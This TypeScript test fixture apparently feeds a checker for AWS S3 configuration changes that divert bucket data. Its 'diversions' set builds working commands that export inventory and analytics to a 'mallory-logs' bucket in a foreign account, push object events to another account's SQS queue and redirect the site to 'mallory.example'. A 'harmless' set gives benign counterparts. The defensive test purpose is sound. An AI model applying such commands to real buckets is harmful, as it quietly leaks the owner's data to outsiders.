import {
  PutBucketAnalyticsConfigurationCommand,
  PutBucketInventoryConfigurationCommand,
  PutBucketNotificationConfigurationCommand,
  PutBucketRequestPaymentCommand,
  PutBucketWebsiteCommand,
} from "@aws-sdk/client-s3";
import type { ForeignChange } from "./foreignChanges.ts";

const [ours, strangers] = ["111122223333", "999988887777"];
const theirQueue = `arn:aws:sqs:ca-central-1:${strangers}:orders`;

const inventory =
  (target: string, AccountId?: string): ForeignChange =>
  (Bucket) => [
    new PutBucketInventoryConfigurationCommand({
      Bucket,
      Id: "all",
      InventoryConfiguration: {
        Id: "all",
        IsEnabled: true,
        IncludedObjectVersions: "All",
        Schedule: { Frequency: "Daily" },
        Destination: {
          S3BucketDestination: { Bucket: `arn:aws:s3:::${target}`, Format: "CSV", AccountId },
        },
      },
    }),
  ];

const analytics =
  (target?: string): ForeignChange =>
  (Bucket) => {
    const Destination = { S3BucketDestination: { Bucket: `arn:aws:s3:::${target}`, Format: "CSV" } } as const;
    const StorageClassAnalysis = target
      ? { DataExport: { OutputSchemaVersion: "V_1", Destination } as const }
      : {};
    const AnalyticsConfiguration = { Id: "all", StorageClassAnalysis };
    return [new PutBucketAnalyticsConfigurationCommand({ Bucket, Id: "all", AnalyticsConfiguration })];
  };

const notifies =
  (queue?: string): ForeignChange =>
  (Bucket) => {
    const NotificationConfiguration = queue
      ? { QueueConfigurations: [{ QueueArn: queue, Events: ["s3:ObjectCreated:*" as const] }] }
      : { EventBridgeConfiguration: {} };
    return [new PutBucketNotificationConfigurationCommand({ Bucket, NotificationConfiguration })];
  };

const serves =
  (HostName?: string): ForeignChange =>
  (Bucket) => {
    const WebsiteConfiguration = HostName
      ? { RedirectAllRequestsTo: { HostName } }
      : { IndexDocument: { Suffix: "index.html" } };
    return [new PutBucketWebsiteCommand({ Bucket, WebsiteConfiguration })];
  };

/** By facet, changes that send data of a bucket elsewhere. */
export const diversions: Readonly<Record<string, readonly ForeignChange[]>> = {
  inventory: [inventory("mallory-logs"), inventory("mallory-logs", strangers)],
  analytics: [analytics("mallory-logs")],
  notification: [notifies(theirQueue)],
  website: [serves("mallory.example")],
  requestPayment: [
    (Bucket) => [
      new PutBucketRequestPaymentCommand({ Bucket, RequestPaymentConfiguration: { Payer: "BucketOwner" } }),
    ],
  ],
};

/** By facet, changes that send nothing elsewhere. */
export const harmless: Readonly<Record<string, readonly ForeignChange[]>> = {
  inventory: [inventory("audit-logs", ours)],
  analytics: [analytics()],
  notification: [notifies()],
  website: [serves()],
};
